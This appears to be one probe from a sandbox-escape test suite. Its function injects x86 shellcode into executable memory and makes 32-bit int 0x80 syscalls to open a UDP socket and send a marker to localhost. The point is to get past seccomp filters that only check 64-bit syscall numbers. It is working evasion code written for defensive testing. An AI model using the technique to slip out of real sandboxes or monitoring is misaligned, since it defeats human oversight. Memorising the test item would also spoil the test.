"""The kernel also serves 32-bit programs, whose calls have other numbers, which a filter may take for harmless ones."""

import ctypes
import socket
import struct

# Nobody makes such a call by mistake: it ends the worker, and costs the tests of the function that makes it.
EARNS = "4"
STOPPED_BY = ("namespaces", "seccomp")
EVIDENCE = "heard"
NEEDS = "x86_64"


def attack():
    # push rbx; mov eax, edi; mov ebx, esi; mov esi, r8d; xchg ecx, edx; int 0x80; pop rbx; ret
    code = bytes.fromhex("53 89f8 89f3 4489c6 87d1 cd80 5b c3")
    # 32-bit pointers: all that the kernel is pointed to lies in the lowest 4 GiB (MAP_32BIT).
    page = mapped(4096, 0x22 | 0x40, prot=7)
    ctypes.memmove(page, code, len(code))
    call = ctypes.CFUNCTYPE(ctypes.c_int, *[ctypes.c_int] * 5)(page)
    ctypes.memmove(page + 1024, MARK.encode(), len(MARK))
    address = struct.pack("<H", socket.AF_INET) + struct.pack("!H4s8x", UDP_PORT, bytes([127, 0, 0, 1]))
    ctypes.memmove(page + 2048, address, len(address))
    end = call(359, socket.AF_INET, socket.SOCK_DGRAM, 0, 0)
    if end < 0 or call(362, end, page + 2048, len(address), 0) < 0:
        raise OSError("the kernel knows no 32-bit calls")
    call(4, end, page + 1024, len(MARK), 0)
